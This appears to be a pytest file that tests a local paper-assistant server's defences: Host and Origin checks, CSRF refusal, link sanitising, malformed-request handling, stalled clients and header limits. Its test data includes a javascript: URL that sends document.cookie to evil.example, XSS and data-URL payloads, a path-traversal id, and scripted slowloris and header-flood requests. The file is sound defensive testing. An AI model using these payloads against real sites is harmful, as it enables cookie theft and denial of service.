"""`assistant serve` defends itself like a well-run local service (issue 23), checked on the real process:
the Host it is addressed by, cross-origin writes, a UTF-8 token, http(s)-only links, HTTP ingest as an
upsert recorded under the client's name, malformed requests that are 4xx (never 5xx), stalled clients."""

from __future__ import annotations

import contextlib
import http.client
import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.server_process import ServerProcess
from tests.test_server import ARRA, writable_copy

pytestmark = pytest.mark.slow
NDJSON = {"Content-Type": "application/x-ndjson"}


@pytest.fixture(scope="module")
def srv(sample_home: Path, embed_cache: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    """Loopback, no token, --allow-ingest: the set-up a web page on another site would attack."""
    log = tmp_path_factory.mktemp("serve-safety") / "serve.log"
    env = {"ASSISTANT_SERVE__HEADER_TIMEOUT": "2", "ASSISTANT_SERVE__BODY_TIMEOUT": "2",
           "ASSISTANT_SERVE__ALLOWED_HOSTS": "papers.internal"}
    home = writable_copy(sample_home, tmp_path_factory)
    server = ServerProcess(home, embed_cache, log, "--allow-ingest", env=env)
    server.home = home  # type: ignore[attr-defined]
    yield server
    server.stop()
    assert "Traceback" not in server.log(), server.log()[-3000:]


def raw_request(port: int, method: str, path: str, body: bytes | None = None,
                headers: list[tuple[bytes, bytes]] | None = None) -> tuple[int, dict[str, str], bytes]:
    """Exactly these headers (http.client adds only Host unless told: no urllib defaults)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    names = {k.lower() for k, _ in headers or []}
    conn.putrequest(method, path, skip_host=b"host" in names, skip_accept_encoding=True)
    for k, v in headers or []:
        conn.putheader(k, v)
    if body is not None:
        conn.putheader("Content-Length", str(len(body)))
    conn.endheaders(body)
    resp = conn.getresponse()
    out = resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
    conn.close()
    return out


def stored(server: ServerProcess, paper_id: str) -> dict[str, Any] | None:
    status, body = server.json("GET", f"/v1/papers/{paper_id}")
    return body if status == 200 else None


def paper(pid: str, title: str = "Cross Site Paper", **kw: Any) -> bytes:
    rec = {"id": pid, "title": title, "abstract": f"We study {title.lower()} on loopback servers. It works.", **kw}
    return json.dumps(rec).encode() + b"\n"


# -- 1. Host and origin -------------------------------------------------------------------------
def test_host_policy() -> None:
    from assistant.server.origins import HostPolicy

    loop = HostPolicy("127.0.0.1")
    assert all(loop.allows(h) for h in ("127.0.0.1:8000", "localhost", "LOCALHOST:1", "[::1]:8000", "::1",
                                        "127.0.0.2", "a.localhost:8000", "localhost."))
    assert not any(loop.allows(h) for h in ("evil.example", "evil.example:8000", "10.0.0.5", "", "[", "localhost.evil"))
    # Malformed: what follows the host must be nothing or ":port" (no browser sends these).
    assert not any(loop.allows(h) for h in ("[::1]evil.example", "localhost:80.evil.example", "127.0.0.1:abc",
                                            "[::1", "localhost:", "[::1]:80x", "127.0.0.1:１２"))
    listed = HostPolicy("127.0.0.1", ["papers.internal", "10.0.0.5"])
    assert listed.allows("papers.internal:8000") and listed.allows("10.0.0.5") and not listed.allows("10.0.0.6")
    assert HostPolicy("localhost", ["*"]).allows("anything.example")
    # Exposed (a token is required there): any Host, as Jupyter's allow_remote_access; unless names are listed.
    assert HostPolicy("0.0.0.0").allows("myhost.lan:8000") and HostPolicy("192.168.1.4").allows("x.example")
    pinned = HostPolicy("0.0.0.0", ["myhost.lan"])
    assert pinned.allows("myhost.lan:8000") and pinned.allows("192.168.1.9") and not pinned.allows("evil.example")


def test_host_header_must_name_this_server(srv: ServerProcess) -> None:
    for host in (b"evil.example", b"evil.example:%d" % srv.port, b"127.0.0.1.evil.example"):
        for path in ("/healthz", "/", "/v1/papers"):
            status, _, raw = raw_request(srv.port, "GET", path, headers=[(b"Host", host)])
            assert status == 403, (host, path, raw)
            assert "does not answer to the host name" in json.loads(raw)["error"]["message"]
    for host in (b"127.0.0.1:%d" % srv.port, b"localhost:%d" % srv.port, b"localhost", b"[::1]:%d" % srv.port,
                 b"papers.internal:%d" % srv.port, b"app.localhost"):
        assert raw_request(srv.port, "GET", "/healthz", headers=[(b"Host", host)])[0] == 200, host


def test_cross_origin_writes_are_refused_and_nothing_is_stored(srv: ServerProcess) -> None:
    url = "/v1/ingest?format=jsonl"
    here = b"http://127.0.0.1:%d" % srv.port
    boundary = b"XyZ"
    multipart = (b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"p.jsonl\"\r\n\r\n" +
                 paper("csrf-5") + b"\r\n--XyZ--\r\n")
    attempts = [
        # What a page on another site can send without a preflight: refused by its Origin.
        ([(b"Origin", b"https://evil.example"), (b"Content-Type", b"text/plain")], paper("csrf-1"), 403),
        ([(b"Origin", b"http://127.0.0.1:1"), (b"Content-Type", b"multipart/form-data; boundary=" + boundary)],
         multipart, 403),
        ([(b"Origin", b"null"), (b"Content-Type", b"application/x-ndjson")], paper("csrf-2"), 403),
        # A browser that sends no Origin still says Sec-Fetch-Site.
        ([(b"Sec-Fetch-Site", b"cross-site"), (b"Content-Type", b"text/plain")], paper("csrf-3"), 403),
        ([(b"Sec-Fetch-Site", b"same-site"), (b"Content-Type", b"application/x-ndjson")], paper("csrf-4"), 403),
        # With neither: a content type a page could send unasked is not enough for a write.
        ([(b"Content-Type", b"text/plain")], paper("csrf-6"), 415),
        ([(b"Content-Type", b"application/x-www-form-urlencoded")], paper("csrf-7"), 415),
        ([], paper("csrf-8"), 415),
    ]
    for headers, body, want in attempts:
        status, _, raw = raw_request(srv.port, "POST", url, body, headers)
        assert status == want, (headers, raw)
        assert "\n" not in json.loads(raw)["error"]["message"]
    for n in range(1, 9):
        assert stored(srv, f"csrf-{n}") is None
    # The same-origin page and programs without browser headers (curl, Python) still write.
    status, _, raw = raw_request(srv.port, "POST", url, paper("same-origin-1"),
                                 [(b"Origin", here), (b"Sec-Fetch-Site", b"same-origin"),
                                  (b"Content-Type", b"application/x-ndjson")])
    assert status == 200, raw
    status, _, raw = raw_request(srv.port, "POST", "/v1/ingest", paper("curl-1"), [(b"Content-Type",
                                                                                   b"application/x-ndjson")])
    assert status == 200, raw
    assert stored(srv, "same-origin-1") and stored(srv, "curl-1")
    # Questions: refused from another origin, while README's `curl -d` (a form type, no Origin) still works.
    q = json.dumps({"question": ARRA}).encode()
    assert raw_request(srv.port, "POST", "/v1/ask", q, [(b"Origin", b"https://evil.example"),
                                                        (b"Content-Type", b"text/plain")])[0] == 403
    status, _, raw = raw_request(srv.port, "POST", "/v1/ask", q,
                                 [(b"Content-Type", b"application/x-www-form-urlencoded")])
    assert status == 200 and "[1]" in json.loads(raw)["answer"]


# -- 2. the token as UTF-8 bytes ----------------------------------------------------------------
def test_a_non_ascii_token_is_compared_as_utf8_bytes(sample_home: Path, embed_cache: Path, tmp_path: Path) -> None:
    token = "tökén-ü"
    (tmp_path / "token").write_text(token + "\n", encoding="utf-8")
    server = ServerProcess(sample_home, embed_cache, tmp_path / "serve.log", "--token-file", str(tmp_path / "token"),
                           token=None)
    try:
        def health(auth: bytes | None) -> int:
            headers = [(b"Authorization", auth)] if auth is not None else []
            return raw_request(server.port, "GET", "/healthz", headers=headers)[0]

        assert health(b"Bearer " + token.encode("utf-8")) == 200
        assert health(b"Bearer " + token.encode("latin-1")) == 401  # same characters, other bytes
        assert health(b"Bearer " + "tökén-u".encode()) == 401
        assert health(None) == 401
    finally:
        server.stop()


# -- 3. links ---------------------------------------------------------------------------------------
def test_an_odd_url_is_kept_as_data_but_never_offered_as_a_link(srv: ServerProcess) -> None:
    evil = "javascript:fetch('//evil.example/'+document.cookie)//arxiv.org/abs/"
    status, _, raw = raw_request(srv.port, "POST", "/v1/ingest", paper("js-1", "Script Link Paper", url=evil),
                                 [(b"Content-Type", b"application/x-ndjson")])
    assert status == 200, raw
    got = stored(srv, "js-1")
    assert got is not None and got["url"] is None
    # ... while the catalogue keeps the value as the record gave it (data, not a link).
    import sqlite3

    db = sqlite3.connect(f"file:{srv.home / 'index' / 'catalogue.sqlite'}?mode=ro", uri=True)  # type: ignore[attr-defined]
    try:
        (data,) = db.execute("SELECT data FROM papers WHERE paper_id = 'js-1'").fetchone()
    finally:
        db.close()
    assert json.loads(data)["url"] == evil
    listed = [p for p in srv.json("GET", "/v1/papers?limit=1000")[1]["papers"] if p["paper_id"] == "js-1"]
    assert listed and listed[0]["url"] is None
    raw_request(srv.port, "POST", "/v1/ingest", paper("https-1", "Plain Link Paper", url="https://example.org/p"),
                [(b"Content-Type", b"application/x-ndjson")])
    assert stored(srv, "https-1")["url"] == "https://example.org/p"  # type: ignore[index]


# -- 4. ingest is an upsert, recorded under the client's name ----------------------------------------
def test_http_ingest_is_an_upsert_and_records_the_clients_name(srv: ServerProcess) -> None:
    abstract = "We correct a record six times. Each upload changes the title, authors and date."
    versions = [("v1", ["A. One", "B. Two", "C. Three"], "2024-05-06", "corr.jsonl"),
                ("v2", ["A. One"], "2024", "corr.jsonl"),
                ("v3", ["Z. Last"], "2023-01", "fix.jsonl"),
                ("v4", ["A. One", "B. Two"], "2025-02-03", "corr.jsonl"),
                ("v5", ["Q. Five"], "2022", "other/dir/zzz.jsonl"),
                ("v6", ["A. Six"], "2021-12", "a.jsonl")]
    for n, (title, authors, date, name) in enumerate(versions):
        body = json.dumps({"id": "corr-1", "title": f"Correction {title}", "abstract": abstract,
                           "authors": authors, "date": date}).encode()
        # The client's name comes as X-Source (header) or ?source= (query), alternately.
        path, headers = (("/v1/ingest?format=jsonl", [(b"X-Source", name.encode())]) if n % 2 else
                         (f"/v1/ingest?format=jsonl&source={name}", []))
        status, _, raw = raw_request(srv.port, "POST", path, body, [(b"Content-Type", b"application/json"),
                                                                    *headers])
        assert status == 200, raw
        got = stored(srv, "corr-1")
        assert got is not None
        assert (got["title"], got["authors"], got["date"]) == (f"Correction {title}", authors, date)
        client_name = "upload:" + name.rsplit("/", 1)[-1]
        assert list(got["provenance"]) == [client_name]  # one entry, the latest upload's: no growth
        assert got["source"].startswith(client_name + ":")
        assert "/tmp" not in json.dumps(got) and "assistant-ingest-" not in json.dumps(got)
    # Without a name: "upload:body"; a problem line names it, never the temporary file.
    status, _, raw = raw_request(srv.port, "POST", "/v1/ingest", paper("corr-2") + b"{bad\n", list(NDJSON.items()))
    rep = json.loads(raw)
    assert status == 200 and rep["source"] == "upload:body" and rep["new"] == 1
    assert rep["problems"] and all(p.startswith("upload:body:line 2") for p in rep["problems"]), rep["problems"]
    # A non-ASCII name in the header arrives as the client wrote it.
    raw_request(srv.port, "POST", "/v1/ingest", paper("corr-3"),
                [(b"Content-Type", b"application/x-ndjson"), (b"X-Source", "bücher.jsonl".encode())])
    assert list(stored(srv, "corr-3")["provenance"]) == ["upload:bücher.jsonl"]  # type: ignore[index]


# -- 5. malformed requests are 4xx ---------------------------------------------------------------
def _chat(history_marker: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": ARRA},
                         {"role": "assistant", "content": "It aligns them [1].",
                          "citations": [{"marker": history_marker, "paper_id": "x", "title": "T"}]},
                         {"role": "user", "content": "and what else?"}]}


def _turns(*contents: str, **fields: Any) -> bytes:
    """A chat-completions body: the turns alternate user / assistant, the user's first."""
    roles = ("user", "assistant")
    return json.dumps({**fields, "messages": [{"role": roles[i % 2], "content": c}
                                              for i, c in enumerate(contents)]}).encode()


MALFORMED: list[tuple[str, str, bytes, int, str]] = [
    ("POST", "/v1/ask", b'{"question": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", 400, "nested too deeply"),
    ("POST", "/v1/ask", b'{"question": "x", "k": ' + b"7" * 5000 + b"}", 400, "cannot be read"),
    ("POST", "/v1/chat/completions", b'{"messages": [{"role": "user", "content": "q"}], "k": 1' + b"0" * 5000 + b"}",
     400, "cannot be read"),
    ("POST", "/v1/ask", b'{"question": "x", "since": "\\ud800"}', 422, "lone surrogate"),
    ("POST", "/v1/ask", b'{"question": "x", "until": "2024-\\udfff"}', 422, "lone surrogate"),
    ("POST", "/v1/ask", b'{"question": "x", "backend": "\\ud800x"}', 422, "lone surrogate"),
    ("POST", "/v1/ask", b'{"question": "\\ud83d"}', 422, "lone surrogate"),
    ("POST", "/v1/chat/completions", json.dumps(_chat("abc")).encode(), 422, "marker"),
    ("POST", "/v1/chat/completions", json.dumps(_chat([1])).encode(), 422, "marker"),
    ("POST", "/v1/chat/completions", json.dumps(_chat(True)).encode(), 422, "marker"),
    ("POST", "/v1/chat/completions", json.dumps(_chat(0)).encode(), 422, "marker"),
    ("POST", "/v1/chat/completions", json.dumps(_chat("x")).encode().replace(b'"x"}]', b'1e400}]'), 422, "marker"),
    ("POST", "/v1/ask", b'{"question": "x", "k": true}', 422, "k:"),
    ("POST", "/v1/ask", b'{"question": "x", "k": 3.0}', 422, "k:"),
    ("POST", "/v1/ask", b'{"question": "x", "since": true}', 422, "since: Input should be a valid string"),
    ("POST", "/v1/chat/completions", b'{"messages": [{"role": "user", "content": [1]}]}', 422,
     "messages.0.content: Input should be"),
    ("POST", "/v1/ask", b'{"question": "x", "str": 1}', 422, "unknown field 'str'"),
    ("POST", "/v1/ask", b'{"question": "x", "since": "2024-13-45"}', 422, "since: date filter '2024-13-45' is not"),
    ("POST", "/v1/ask", b'{"question": "x", "until": "2023-02-30"}', 422, "until: date filter '2023-02-30' is not"),
    ("GET", "/v1/search?q=dpo&since=2024-13-45", b"", 422, "since: date filter '2024-13-45' is not a real date"),
    ("GET", "/v1/search?q=dpo&until=June", b"", 422, "until: date filter 'June'"),
    ("GET", "/v1/search?q=dpo&k=" + "9" * 5000, b"", 422, "k:"),
    ("GET", "/v1/search?q=dpo&since=%ED%A0%80", b"", 400, "query string is not UTF-8"),  # (a lone surrogate)
    ("POST", "/v1/chat/completions", _turns("q" * 4001), 422, "at most 4000 characters"),
    ("POST", "/v1/chat/completions", _turns("q" * 300_000, "a", "q"), 422, "at most 4000 characters"),
    ("POST", "/v1/ask", json.dumps({"question": "q" * 4001}).encode(), 422, "question:"),
    ("POST", "/v1/chat/completions", _turns("q", stream="yes"), 422, "stream:"),
    ("POST", "/v1/chat/completions", _turns("q", stream=1), 422, "stream:"),
    ("POST", "/v1/ask", b'{"question": "x", "since": "2025", "until": "2020"}', 422, "since 2025 is after until 2020"),
    ("POST", "/v1/verify", b'{"claim": "x", "since": "2024-06", "until": "2024-05-31"}', 422, "is after"),
    ("GET", "/v1/search?q=dpo&since=2025&until=2020-12", b"", 422, "no paper can match"),
    ("GET", "/v1/search?q=%ff%fe&k=1", b"", 400, "query string is not UTF-8"),
    ("GET", "/v1/papers?collection=%C0%AF", b"", 400, "query string is not UTF-8"),
    ("GET", "/v1/models?bogus=1", b"", 422, "unknown query parameter 'bogus'"),
    # Nothing to read (a NUL, zero-width spaces) was answered as a question.
    ("POST", "/v1/ask", b'{"question": "\\u0000"}', 422, "the question is empty"),
    ("POST", "/v1/verify", b'{"claim": "\\u200b \\u200c"}', 422, "the claim is empty"),
    ("POST", "/v1/chat/completions", _turns("\ufeff\u200b"), 422, "non-empty question"),
]


@pytest.mark.parametrize(("method", "path", "body", "status", "reason"), MALFORMED,
                         ids=[f"{m[0]} {m[1][:20]} {m[2][:30]!r} {m[3]}" for m in MALFORMED])
def test_malformed_requests_get_a_4xx_not_a_500(srv: ServerProcess, method: str, path: str, body: bytes,
                                               status: int, reason: str) -> None:
    got, _, raw = raw_request(srv.port, method, path, body or None, [(b"Content-Type", b"application/json")])
    err = json.loads(raw)["error"]
    assert got == status and err["code"] == status, raw[:500]
    assert reason in err["message"] and "\n" not in err["message"], err
    assert "Traceback" not in srv.log()


def test_a_good_citation_history_is_still_used(srv: ServerProcess) -> None:
    status, body = srv.json("POST", "/v1/chat/completions", _chat(1))
    assert status == 200 and body["choices"][0]["message"]["content"], body


# -- 6. stalled clients ------------------------------------------------------------------------------
def _read_until_closed(sock: socket.socket) -> bytes:
    """What the server sends before it closes the connection (a hang fails on the socket timeout)."""
    sock.settimeout(60)  # a hang guard, not a timing assertion: the server's limit is 2 s here
    data = b""
    while True:
        part = sock.recv(4096)
        if not part:
            return data
        data += part


def test_stalled_clients_are_timed_out(srv: ServerProcess) -> None:
    # Half a request line and header, then nothing: 408 and closed.
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.sendall(b"POST /v1/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Le")
        got = _read_until_closed(sock)
    assert got.startswith(b"HTTP/1.1 408") and b"frame-ancestors 'none'" in got, got
    # Connected and silent: closed.
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        assert _read_until_closed(sock) == b""
    # Headers complete, half the body: 408 with the reason, and closed.
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.sendall(b"POST /v1/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 100\r\n\r\n{\"question\": ")
        got = _read_until_closed(sock)
    assert got.startswith(b"HTTP/1.1 408") and b"request body not received" in got, got
    # A keep-alive client that asks, reads and then stalls on its next request is closed too.
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.settimeout(60)
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        first = b""
        while not first.endswith(b"}"):  # the whole JSON answer
            first += sock.recv(4096)
        sock.sendall(b"GET /heal")
        got = _read_until_closed(sock)
    assert first.startswith(b"HTTP/1.1 200") and got.startswith(b"HTTP/1.1 408"), (first, got)
    assert srv.json("GET", "/healthz")[0] == 200


def test_oversized_headers_are_refused_before_they_are_held(srv: ServerProcess) -> None:
    """50 MB of header was read and answered 200 (held in memory, before any token check): over 64 KiB of
    request line and headers is a 431, and the connection is closed. A request just under it, and a body far
    larger than that arriving in the headers' packets, are fine."""
    from assistant.server.timeouts import MAX_HEADER_BYTES

    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Pad: ")
        for _ in range(MAX_HEADER_BYTES // 16384 + 1):  # read piece by piece: nothing unread when it closes
            sock.sendall(b"a" * 16384)
            time.sleep(0.3)
        got = _read_until_closed(sock)
    assert got.startswith(b"HTTP/1.1 431") and b"frame-ancestors 'none'" in got, got[:300]
    # A request answered before its body was read (here a 400 for a query string that is not UTF-8):
    # the rest of its body was counted as the next request's headers, and a 431 followed the answer.
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.settimeout(60)
        body = b"x" * 300_000
        sock.sendall(b"POST /v1/ask?q=%%ff HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                     b"Content-Length: %d\r\n\r\n" % len(body) + body + b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                     b"Connection: close\r\n\r\n")
        got = _read_until_closed(sock)
    assert got.startswith(b"HTTP/1.1 400") and b"431" not in got and got.count(b"HTTP/1.1 200") == 1, got[:600]
    pad = b"a" * (MAX_HEADER_BYTES - 200)
    status, _, _ = srv.request("GET", "/healthz", headers={"X-Pad": pad.decode()})
    assert status == 200
    big = json.dumps({"question": "Which papers drop the reference model?", "pad": "x" * 300_000}).encode()
    status, _, raw = srv.request("POST", "/v1/ask", big, headers={"Content-Type": "application/json"})
    assert status == 422 and b"pad" in raw  # read whole and refused for its unknown field, not for its size


def test_trailers_and_pipelined_headers_count_toward_the_header_limit(srv: ServerProcess) -> None:
    """Only the first request's headers were counted: a trailer after a chunked body (191 MB were held) or a
    request pipelined behind another took any size, and httptools' growing header value stalled every
    client. A large chunked body in small chunks is still read."""
    from assistant.server.timeouts import MAX_HEADER_BYTES

    heads = [b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-Trailer: ",
             b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Pad: "]
    for head in heads:
        with socket.create_connection(("127.0.0.1", srv.port)) as sock:
            sock.sendall(head)
            sent = 0
            with contextlib.suppress(OSError):  # the server closes once it has seen enough
                while sent < 50 * MAX_HEADER_BYTES:
                    sock.sendall(b"a" * 16384)
                    sent += 16384
                    time.sleep(0.01)
            got = _read_until_closed(sock)
        assert b"HTTP/1.1 431" in got and sent < 20 * MAX_HEADER_BYTES, (head, sent, got[:600])
    # A body in small chunks: its framing (~600 KB here, "10\r\n" and "\r\n" a chunk) is not header.
    body = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece)
                    for piece in [json.dumps({"question": "Which papers drop the reference model?"}).encode()]
                    + [b" " * 16] * 100_000) + b"0\r\n\r\n"
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.sendall(b"POST /v1/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                     b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + body)
        got = _read_until_closed(sock)
    assert got.startswith(b"HTTP/1.1 200"), got[:300]
    # A large body does not buy its trailer room (an allowance growing with the body let 45 MB through).
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n")
        piece = b"%x\r\n%s\r\n" % (1 << 20, b"b" * (1 << 20))
        for _ in range(128):
            sock.sendall(piece)
        sock.sendall(b"0\r\nX-Trailer: ")
        sent = 0
        with contextlib.suppress(OSError):
            while sent < 16 * MAX_HEADER_BYTES:  # 1 MB of trailer, under what 128 MB of body bought before
                sock.sendall(b"a" * 16384)
                sent += 16384
                time.sleep(0.01)
        got = _read_until_closed(sock)
    assert b"HTTP/1.1 431" in got, got[:600]


def test_answers_uvicorn_makes_itself_carry_the_security_headers(srv: ServerProcess) -> None:
    """A malformed request line (uvicorn's own 400) and a WebSocket upgrade (its 403) had no CSP."""
    for raw in (b"GET /v1/papers/\xff\xfe HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
                b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"):
        with socket.create_connection(("127.0.0.1", srv.port)) as sock:
            sock.sendall(raw)
            got = _read_until_closed(sock)  # (closed by the server: after its 400, or idle after the page)
        assert b"frame-ancestors 'none'" in got.split(b"\r\n\r\n")[0], got[:400]


@pytest.mark.parametrize("head", [b"GET /healthz HTTP/1.0\r\n\r\n",
                                  b"GET /healthz HTTP/1.1\r\nHost: evil.example\r\nHost: 127.0.0.1\r\n\r\n"])
def test_a_request_without_exactly_one_host_is_refused(srv: ServerProcess, head: bytes) -> None:
    """No Host (HTTP/1.0), or two, the last one allowed: both were answered."""
    with socket.create_connection(("127.0.0.1", srv.port)) as sock:
        sock.sendall(head)
        got = _read_until_closed(sock)
    assert got.startswith(b"HTTP/1.1 400") and b"exactly one Host header" in got, got[:300]


# -- 7. hostile paper text and what a browser may do with responses ---------------------------------
HOSTILE = [
    {"id": "xss-1", "title": "<script>alert(1)</script> Quokka lattice annealing",
     "abstract": "Quokka lattice annealing <img src=x onerror=alert(2)> lowers spin glass frustration by 41 "
                 "percent. [Click](javascript:alert(5)) The \u202emethod\u202c needs no tuning.",
     "authors": ["<b onmouseover=alert(4)>Eve</b>", "Mallory"], "date": "2024-03-01",
     "url": "javascript:alert(document.domain)//https://arxiv.org/abs/2401.00001"},
    {"id": "x/../xss-2", "title": "Crafted id paper", "abstract": "An id with dot segments. It must be found.",
     "url": "data:text/html,<script>alert(7)</script>"},
]


def _ingest_hostile(srv: ServerProcess) -> None:
    body = b"".join(json.dumps(r).encode() + b"\n" for r in HOSTILE)
    status, _, raw = raw_request(srv.port, "POST", "/v1/ingest", body, [(b"Content-Type", b"application/x-ndjson")])
    assert status == 200, raw


def test_hostile_paper_text_is_never_live_markup_or_a_link(srv: ServerProcess) -> None:
    from markdown_it import MarkdownIt

    _ingest_hostile(srv)
    md = MarkdownIt("commonmark")
    # Chat completions: content is Markdown a front-end renders; the quoted abstract is escaped.
    question = "By how much does quokka lattice annealing lower spin glass frustration?"
    status, body = srv.json("POST", "/v1/chat/completions", {"messages": [{"role": "user", "content": question}]})
    assert status == 200, body
    content = body["choices"][0]["message"]["content"]
    assert not body["refused"] and "41" in content, content
    html = md.render(content)
    assert "<img" not in html and "<script" not in html and "<a " not in html, html
    assert "\u202e" not in content and "\u202e" not in json.dumps(body["paper_assistant"], ensure_ascii=False)
    # The structured answer is data (plain text, as quoted), and every url in any response is http(s) or null.
    assert "<img src=x onerror=alert(2)>" in body["paper_assistant"]["answer"]
    got = stored(srv, "xss-1")
    assert got is not None and got["url"] is None
    assert all(v.get("url") is None for v in got["provenance"].values()), got["provenance"]
    status, _, raw = raw_request(srv.port, "GET", "/v1/references?ids=xss-1&ids=x/../xss-2&format=markdown")
    assert status == 200
    html = md.render(raw.decode())
    assert "<b " not in html and "<script" not in html and "href" not in html, html  # no http(s) url: no link
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Quokka" in html  # the title shown as written
    for fmt in ("ris", "bibtex", "csl-json"):
        status, _, raw = raw_request(srv.port, "GET", f"/v1/references?ids=xss-1&ids=x/../xss-2&format={fmt}")
        assert status == 200 and b"alert(document.domain)" not in raw and b"data:text/html" not in raw, raw
    # The id with dot segments: found by its encoded path (what the web chat now sends) ...
    status, got = srv.json("GET", "/v1/papers/x%2F..%2Fxss-2")
    assert status == 200 and got["title"] == "Crafted id paper"
    # ... and ids a link could never reach are refused when read, naming the record.
    body = json.dumps({"id": "..", "title": "Dots", "abstract": "Dots only."}).encode() + b"\n"
    status, _, raw = raw_request(srv.port, "POST", "/v1/ingest", body, [(b"Content-Type", b"application/x-ndjson")])
    assert status == 422 and "upload:body:line 1: id '..' cannot name a paper" in json.loads(raw)["error"]["message"]


def test_every_response_tells_the_browser_what_it_may_do(srv: ServerProcess) -> None:
    checks = [("GET", "/", [], 200), ("HEAD", "/", [], 200), ("GET", "/static/app.js", [], 200),
              ("GET", "/v1/papers?limit=1", [], 200), ("GET", "/healthz", [], 200),
              ("GET", "/healthz", [(b"Host", b"evil.example")], 403), ("GET", "/v1/nope", [], 404)]
    for method, path, headers, want in checks:
        status, got, _ = raw_request(srv.port, method, path, headers=headers)
        assert status == want, (method, path, status)
        csp = got.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "default-src 'none'" in csp, got
        assert got.get("x-frame-options") == "DENY" and got.get("x-content-type-options") == "nosniff", got
        assert got.get("referrer-policy") == "no-referrer", got
        if path.startswith(("/v1/", "/healthz")):
            assert got.get("cache-control") == "no-store", (path, got)
    streamed = {"stream": True, "messages": [{"role": "user", "content": ARRA}]}
    status, got, raw = raw_request(srv.port, "POST", "/v1/chat/completions", json.dumps(streamed).encode(),
                                   [(b"Content-Type", b"application/json")])
    assert status == 200 and got.get("cache-control") == "no-store" and raw.endswith(b"data: [DONE]\n\n")


def test_errors_do_not_show_where_the_server_keeps_its_data(srv: ServerProcess) -> None:
    home = str(srv.home)  # type: ignore[attr-defined]
    for path in ("/v1/papers?collection=nope", "/v1/search?q=dpo&collection=nope"):
        status, body = srv.json("GET", path)
        assert status == 404 and "no collection 'nope'" in body["error"]["message"], body
        assert home not in json.dumps(body), body
    status, body = srv.json("POST", "/v1/ask", {"question": ARRA, "collection": "nope"})
    assert status == 404 and home not in json.dumps(body), body
    status, body = srv.json("GET", "/v1/papers/" + "a" * 5000)
    assert status == 404 and len(body["error"]["message"]) < 300, body


def test_a_body_dripped_slowly_is_cut_off_as_a_whole() -> None:
    """`serve.body_timeout` bounded each pause only: a byte every 29 s kept a connection (and a worker's
    buffer) for as long as the client liked. The whole body now has body_timeout plus its limit at 64 KB/s.
    The client is scripted here (an ASGI receive that drips), the gate in front of the app is the real one."""
    import asyncio

    from assistant.server.app import Guard
    from assistant.server.options import ServeOptions

    reached: list[bytes] = []

    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        reached.append((await receive())["body"])

    async def drip() -> dict[str, Any]:
        await asyncio.sleep(0.2)  # within every pause's limit
        return {"type": "http.request", "body": b"x", "more_body": True}

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    guard = Guard(app, ServeOptions(max_body_bytes=65536, body_timeout=0.5))
    scope = {"type": "http", "method": "POST", "path": "/v1/ask", "headers": [], "query_string": b""}
    asyncio.run(asyncio.wait_for(guard(scope, drip, send), 30))
    assert reached == [] and sent[0]["status"] == 408
    body = json.loads(b"".join(m.get("body", b"") for m in sent[1:]))
    assert body["error"]["message"] == "request body not received: the whole body did not arrive within 2 s"


def test_field_names_in_errors_carry_no_pydantic_union_member() -> None:
    """'since.str', 'messages.0.content.list[ContentPart].0.text' named pydantic's union members; an unknown
    field called 'str' was named 'body'."""
    from pydantic import ValidationError

    from assistant.server.app import validation_message
    from assistant.server.schemas import AskRequest, ChatRequest

    cases = [(AskRequest, {"question": "x", "since": True}, "since: Input should be a valid string"),
             (AskRequest, {"question": "x", "str": 1}, "unknown field 'str'"),
             (ChatRequest, {"messages": [{"role": "user", "content": [{"type": "text", "text": 5}]}]},
              "messages.0.content.0.text: Input should be a valid string")]
    for model, body, want in cases:
        with pytest.raises(ValidationError) as err:
            model.model_validate(body)
        assert want in [validation_message([e]) for e in err.value.errors()], body
